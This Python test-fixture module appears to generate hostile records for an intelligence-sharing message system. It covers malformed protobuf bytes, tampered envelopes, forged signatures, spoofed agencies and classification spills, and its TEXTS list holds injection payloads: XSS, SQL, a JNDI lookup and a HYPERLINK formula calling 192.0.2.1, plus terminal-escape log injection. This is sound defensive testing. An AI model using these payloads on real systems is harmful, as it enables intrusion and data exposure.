# SPDX-License-Identifier: Apache-2.0
"""Values as an enemy would write them to an inbound topic: signed with the agency's own key where it takes one, made without any of our code."""
import copy
import gzip
import hashlib
import pathlib
import subprocess
import time

import contract
import kit

CANARY = "heliotrope-canary"  # stands in every text; nothing but feeds and quarantine may hold it
DAY_MS = 86400000
VALUE_BYTES = 262144
KEPT_BYTES = 524288
GROUP_ORDER = 2**252 + 27742317777372353535851937790883648493  # of Ed25519
TEXTS = ["<img src=x onerror=alert(1)>", "'; DROP TABLE feeds; --", "${jndi:ldap://192.0.2.1/a}", "%s%n%s%n", "=HYPERLINK(\"http://192.0.2.1\")",
         "seen in \u202etnek\u202c", "seen\r\nlevel=error event=SPILL\x1b[2J\x1b]0;title\x07", "\ufeffk\u200bent\uffff"]


class Signer:
    """An agency with its private key; openssl signs."""

    def __init__(self, agency, pem, deployment):
        self.agency, self.pem, self.deployment = agency, pathlib.Path(pem), deployment
        der = subprocess.run(["openssl", "pkey", "-in", pem, "-pubout", "-outform", "DER"], check=True, capture_output=True).stdout
        self.key_id = hashlib.sha256(der[-32:]).digest()[:16]
        self.file = self.pem.with_suffix(".statement")

    def sign(self, root, leaves=1, agency=None, topic=None):
        agency, topic = (agency or self.agency).encode(), (topic or f"in.{self.agency}").encode()
        statement = b"signalbox/v1/batch\0" + self.deployment + bytes([len(agency)]) + agency + bytes([len(topic)]) + topic + leaves.to_bytes(4, "big") + root
        self.file.write_bytes(statement)
        words = ["openssl", "pkeyutl", "-sign", "-rawin", "-inkey", self.pem, "-in", self.file]
        return subprocess.run(words, check=True, capture_output=True).stdout


class Item:
    """A good report, to be spoilt: header, routing, infos and bodies are messages of the contract, bytes are made by envelope()."""

    number = 0

    def __init__(self, signer):
        Item.number += 1
        self.signer = signer
        self.now_ms = int(time.time() * 1000)
        self.header = kit.message("Header")(
            nonce=hashlib.sha256(f"hostile {Item.number}".encode()).digest()[:16], revision=1, kind=1, status=1, agency=signer.agency,
            subject=f"hostile-{Item.number:04d}", strands=[1], themes=["drugs"], product="intelligence-report", exporter_forces=["metropolitan"],
            importer_forces=["kent"], priority=1, made_unix_ms=self.now_ms - 1000, mopi_group=3,
            review_unix_ms=self.now_ms + 1000 * DAY_MS, sharing_basis="policing-purpose")
        self.header.item_id = contract.item_id(signer.agency, self.header.subject, self.header.nonce)
        self.routing = kit.message("Routing")(salt=bytes(16), reference=f"hostile/{Item.number}", place="CT20")
        self.infos, self.bodies, self.leaves, self.as_agency, self.as_topic, self.raw_routing = [], [], 1, None, None, None
        self.add_part()

    @property
    def info(self):
        return self.infos[0]

    def add_part(self):
        self.infos.append(kit.message("PartInfo")(number=100 * len(self.infos) + 17, classification=1, marking_text="OFFICIAL", handling=1,
                                                  source_evaluation=2, intelligence_assessment=2, title="Report"))
        body = kit.message("ReportBody")(title=f"Invented report {Item.number} {CANARY}")
        body.statements.add(text=f"Invented statement {len(self.bodies)} of {Item.number}, {CANARY}.", source_evaluation=2, intelligence_assessment=2, handling=1)
        self.bodies.append(body)

    def envelope(self):
        envelope = kit.message("Envelope")()
        slots = [hashlib.sha256(f"decoy {i}".encode()).digest() for i in range(contract.slots_for(len(self.bodies)))]
        self.routing.real_slots = 0
        for slot, (info, body) in enumerate(zip(self.infos, self.bodies), start=1):
            salt, content = hashlib.sha256(bytes([slot])).digest()[:16], body if isinstance(body, bytes) else body.SerializeToString()
            info.size_bytes, info.content_sha256 = len(content), hashlib.sha256(content).digest()
            envelope.parts.add(slot=slot, salt=salt, info=info.SerializeToString(), content=content)
            slots[slot] = contract.slot(slot, salt, envelope.parts[-1].info)
            self.routing.real_slots |= 1 << slot
        self.header.ClearField("slots")
        self.header.slots.extend(slots)
        envelope.routing = self.raw_routing or self.routing.SerializeToString()
        self.header.routing_digest = contract.routing_digest(envelope.routing)
        envelope.header = self.header.SerializeToString()
        root = contract.leaf(envelope.header)
        envelope.proof.key_id, envelope.proof.batch_size = self.signer.key_id, self.leaves
        envelope.proof.signature = self.signer.sign(root, self.leaves, self.as_agency, self.as_topic)
        return envelope

    def routing_field(self):
        """The bytes at the end of the envelope that no feed may have."""
        return kit.message("Envelope")(routing=self.raw_routing or self.routing.SerializeToString()).SerializeToString()


class Row:
    """One record and what must become of it. key None: the subject; kept: whether quarantine may hold the value."""

    def __init__(self, name, topic, value, code, path="", key=None, kept=True, headers=(), item=None):
        self.name, self.topic, self.value, self.code, self.path = name, topic, value, code, path
        self.key = key if key is not None else item.header.subject.encode() if item else b"hostile"
        self.kept, self.headers, self.item = kept and len(value or b"") <= KEPT_BYTES, list(headers), item
        self.partition = self.offset = None


def raws(topic):
    """Bytes that no library writes."""
    flood = lambda pattern: pattern * (VALUE_BYTES // len(pattern))
    deep = b""
    while len(deep) < VALUE_BYTES - 8:
        deep = b"\x12" + varint(len(deep)) + deep
    for name, value, code, path in [
            ("nothing", b"", "EMPTY", ""),
            ("a megabyte of empty parts", b"\x12\x00" * 500000, "TOO_LARGE", ""),
            ("one byte too large", b"\x12" * (VALUE_BYTES + 1), "TOO_LARGE", ""),
            ("empty parts", flood(b"\x12\x00"), "FIELD_MISSING", "parts[0].salt"),
            ("messages in each other", deep, "FIELD_LENGTH", "parts[0].salt"),
            ("the header many times", flood(b"\x0a\x01h"), "DUPLICATE_FIELD", "header"),
            ("groups", flood(b"\x0b"), "WIRE_BROKEN", "header"),
            ("a number without end", flood(b"\xff"), "WIRE_BROKEN", ""),
            ("unknown fields", flood(b"\x28\x01"), "UNKNOWN_FIELD", "5"),
            ("a length of 2^64 - 1", b"\x0a" + b"\xff" * 9 + b"\x01", "WIRE_BROKEN", "header"),
            ("a padded length", b"\x0a\x81\x00x", "WIRE_VARINT", "header"),
            ("JSON", b'{"header":"' + CANARY.encode() + b'"}', "WIRE_BROKEN", "15"),
            ("HTML", b"<!DOCTYPE html>" + CANARY.encode(), "WIRE_BROKEN", "7"),
            ("gzip", gzip.compress(CANARY.encode()), "WIRE_BROKEN", "proof")]:
        yield Row(name, topic, value, code, path)
    # Without a value at all: a tombstone, where a topic is compacted.
    yield Row("a tombstone", topic, None, "EMPTY", "")


def varint(number):
    out = b""
    while number > 127:
        out, number = out + bytes([number & 127 | 128]), number >> 7
    return out + bytes([number])


class Book:
    """Rows for one agency. Each method below yields those of one kind; spoil() makes a good item and hands it to a function."""

    def __init__(self, signer, other):
        self.signer, self.other, self.topic = signer, other, f"in.{signer.agency}"

    def spoil(self, name, code, path, before=None, after=None, **more):
        item = Item(self.signer)
        if before:
            before(item)
        envelope = item.envelope()
        if after:
            after(envelope)
        return Row(name, more.pop("topic", self.topic), envelope.SerializeToString(), code, path, item=item, **more)

    def parts(self):
        def two(item):
            item.add_part()

        def swap(envelope):
            first, second = copy.deepcopy(envelope.parts[0]), copy.deepcopy(envelope.parts[1])
            envelope.parts[0].CopyFrom(second)
            envelope.parts[1].CopyFrom(first)

        def same_number(item):
            item.add_part()
            item.infos[1].number = item.info.number

        def fill_decoy(envelope):
            envelope.parts.add(slot=3, salt=bytes(16), info=envelope.parts[0].info, content=envelope.parts[0].content)

        def other_routing(envelope):
            routing = kit.message("Routing").FromString(envelope.routing)
            routing.home_forces.append("essex")
            envelope.routing = routing.SerializeToString()

        def other_marking(envelope):
            info = kit.message("PartInfo").FromString(envelope.parts[0].info)
            info.title = "Another"
            envelope.parts[0].info = info.SerializeToString()

        def flip(field):
            def change(envelope):
                value = bytearray(getattr(envelope.parts[0], field))
                value[3] ^= 1
                setattr(envelope.parts[0], field, bytes(value))
            return change

        yield self.spoil("parts in the wrong order", "ENVELOPE_PARTS", "parts[1].slot", two, swap)
        yield self.spoil("a part cut out", "ENVELOPE_PARTS", "routing.real_slots", two, lambda envelope: envelope.parts.pop())
        yield self.spoil("a decoy filled", "ENVELOPE_PARTS", "routing.real_slots", None, fill_decoy)
        yield self.spoil("the same number twice", "ENVELOPE_PARTS", "parts[1].info.number", same_number)
        yield self.spoil("no routing block", "FIELD_MISSING", "routing", None, lambda envelope: envelope.ClearField("routing"))
        yield self.spoil("another routing block", "DIGEST_BAD", "routing", None, other_routing)
        yield self.spoil("another salt", "DIGEST_BAD", "parts[0].info", None, flip("salt"))
        yield self.spoil("another marking", "DIGEST_BAD", "parts[0].info", None, other_marking)
        yield self.spoil("another content", "DIGEST_BAD", "parts[0].content", None, flip("content"))

    def proofs(self):
        def zero(envelope):
            envelope.proof.key_id, envelope.proof.signature = bytes(16), bytes(64)

        def other_form(envelope):
            s = int.from_bytes(envelope.proof.signature[32:], "little") + GROUP_ORDER
            envelope.proof.signature = envelope.proof.signature[:32] + s.to_bytes(32, "little")

        def set_to(**values):
            return lambda part: [setattr(part, name, value) for name, value in values.items()]

        def of_other(item):
            item.signer = self.other
            item.as_agency, item.as_topic = self.signer.agency, self.topic

        def claims(envelope):
            envelope.proof.key_id = self.signer.key_id

        bad = ("SIGNATURE_BAD", "proof.signature")
        yield self.spoil("a key and signature of zeros", "KEY_UNKNOWN", "proof.key_id", None, zero)
        yield self.spoil("a signature of zeros", *bad, None, lambda envelope: setattr(envelope.proof, "signature", bytes(64)))
        yield self.spoil("the other form of the signature", *bad, None, other_form)
        yield self.spoil("another agency's key", "KEY_UNKNOWN", "proof.key_id", of_other)
        yield self.spoil("another agency's signature under our key's id", *bad, of_other, claims)
        yield self.spoil("signed for another topic", *bad, set_to(as_topic=f"in.{self.other.agency}"))
        yield self.spoil("a batch of 64 that was one", *bad, None, lambda envelope: setattr(envelope.proof, "batch_size", 64))
        yield self.spoil("a batch of two", "FIELD_RANGE", "proof.batch_size", None, lambda envelope: setattr(envelope.proof, "batch_size", 2))
        yield self.spoil("a leaf beyond its batch", *bad, None, lambda envelope: setattr(envelope.proof, "leaf_index", 1))
        yield self.spoil("a path in a batch of one", *bad, None, lambda envelope: envelope.proof.path.append(bytes(32)))
        yield self.spoil("a path of eleven", "WIRE_LIMIT", "proof.path[10]", None, lambda envelope: envelope.proof.path.extend([bytes(32)] * 11))

    def headers(self):
        def set_to(**values):
            def change(item):
                for name, value in values.items():
                    setattr(item.header, name, value)
            return change

        def listed(name, values):
            return lambda item: (item.header.ClearField(name), getattr(item.header, name).extend(values))

        def raw_place(old, new):
            def change(item):
                item.envelope()
                item.raw_routing = item.routing.SerializeToString().replace(old.encode(), new)
            return change

        def of_subject(item):
            item.header.item_id = contract.item_id(item.signer.agency, "another line", item.header.nonce)

        def about(item):
            item.header.about.agency = item.signer.agency
            item.header.about.item_id, item.header.about.nonce = item.header.item_id, item.header.nonce

        at_ms = int(time.time() * 1000)
        yield self.spoil("another subject's id", "ITEM_ID_WRONG", "header.item_id", of_subject)
        yield self.spoil("another agency's name", "AGENCY_MISMATCH", "header.agency", set_to(agency=self.other.agency))
        yield self.spoil("another record key", "KEY_MISMATCH", "header.subject", key=b"KEY")
        yield self.spoil("half a megabyte of record key", "KEY_MISMATCH", "header.subject", key=b"LONG")
        yield self.spoil("broken UTF-8", "UTF8_BROKEN", "routing.place", raw_place("CT20", b"CT\xc0\xaf"))
        yield self.spoil("a NUL", "TEXT_NUL", "routing.place", raw_place("CT20", b"CT\x000"))
        yield self.spoil("SQL as a force", "ORGANISATION_UNKNOWN", "header.importer_forces[0]", listed("importer_forces", [f"'; {CANARY}"]))
        yield self.spoil("HTML as a theme", "CODE_UNKNOWN", "header.themes[0]", listed("themes", [f"<b>{CANARY}"]))
        yield self.spoil("an unknown kind", "ENUM_UNKNOWN", "header.kind", set_to(kind=99))
        yield self.spoil("a report about an earlier item", "FIELD_CONFLICT", "header.about", about)
        yield self.spoil("from the future", "NOT_YET_VALID", "header.made_unix_ms", set_to(made_unix_ms=at_ms + DAY_MS))
        yield self.spoil("from long ago", "EXPIRED", "header.made_unix_ms", set_to(made_unix_ms=at_ms - 60 * DAY_MS))
        yield self.spoil("expired", "EXPIRED", "header.expires_unix_ms", set_to(made_unix_ms=at_ms - 5000, expires_unix_ms=at_ms - 500))
        yield self.spoil("conditions beside P", "HANDLING_INVALID", "parts[0].info.action", lambda item: setattr(item.info, "action", 1))
        yield self.spoil("a flattering grade", "GRADE_INVALID", "parts[0].content.statements[0].source_evaluation",
                         lambda item: setattr(item.info, "source_evaluation", 1))

    def spills(self):
        def secret(item):
            item.info.classification = 3

        def stranger(item):
            secret(item)
            item.as_topic = "in.elsewhere"

        def without_basis(item):
            secret(item)
            item.header.sharing_basis = ""

        def without_revision(item):
            secret(item)
            item.header.revision = 0

        field = "parts[0].info.classification"
        yield self.spoil("SECRET", "SPILL", field, secret, kept=False)
        yield self.spoil("TOP SECRET", "SPILL", field, lambda item: setattr(item.info, "classification", 4), kept=False)
        yield self.spoil("SECRET, badly signed", "SIGNATURE_BAD", "proof.signature", stranger, kept=False)
        yield self.spoil("SECRET, without a basis", "SPILL", field, without_basis, kept=False)
        yield self.spoil("SECRET, without a revision", "FIELD_MISSING", "header.revision", without_revision, kept=False)
        row = self.spoil("SECRET, with rubbish behind it", "UNKNOWN_FIELD", "5", secret, kept=False)
        row.value += b"\x2a\x00"
        yield row

    def taken(self):
        """Items that are taken in, though somebody hoped for more."""
        for text in TEXTS:
            def write(item):
                item.bodies[0].title = item.bodies[0].statements[0].text = f"{text} {CANARY}"
            yield self.spoil(f"a text for another parser: {text!r}", "ACCEPTED", "", write)
        origin = [("signalbox-origin-topic", b"in.nca"), ("signalbox-origin-partition", b"0"), ("signalbox-origin-offset", b"7"),
                  ("signalbox-origin-appended", b"1700000000000")]
        yield self.spoil("another's name in the headers", "ACCEPTED", "", headers=origin)
        yield self.spoil("half a megabyte of traceparent", "ACCEPTED", "", headers=[("traceparent", CANARY.encode() * 30000)])
        yield self.spoil("a good traceparent", "ACCEPTED", "", headers=[("traceparent", GOOD_TRACE)])

    def relayed(self):
        place = [("signalbox-origin-partition", b"0"), ("signalbox-origin-offset", b"9000003"), ("signalbox-origin-appended", b"1700000000000")]
        other = ("signalbox-origin-topic", b"in." + self.other.agency.encode())
        yield self.spoil("on relane, from nowhere", "RELANE_ORIGIN", "", topic="relane", headers=place)
        yield self.spoil("on relane, for another agency", "KEY_UNKNOWN", "proof.key_id", topic="relane", headers=[other, *place])


GOOD_TRACE = b"00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"


def rows(signer, other):
    """All of them, for one agency."""
    book = Book(signer, other)
    for kind in (raws(book.topic), book.parts(), book.proofs(), book.headers(), book.spills(), book.taken(), book.relayed()):
        yield from kind
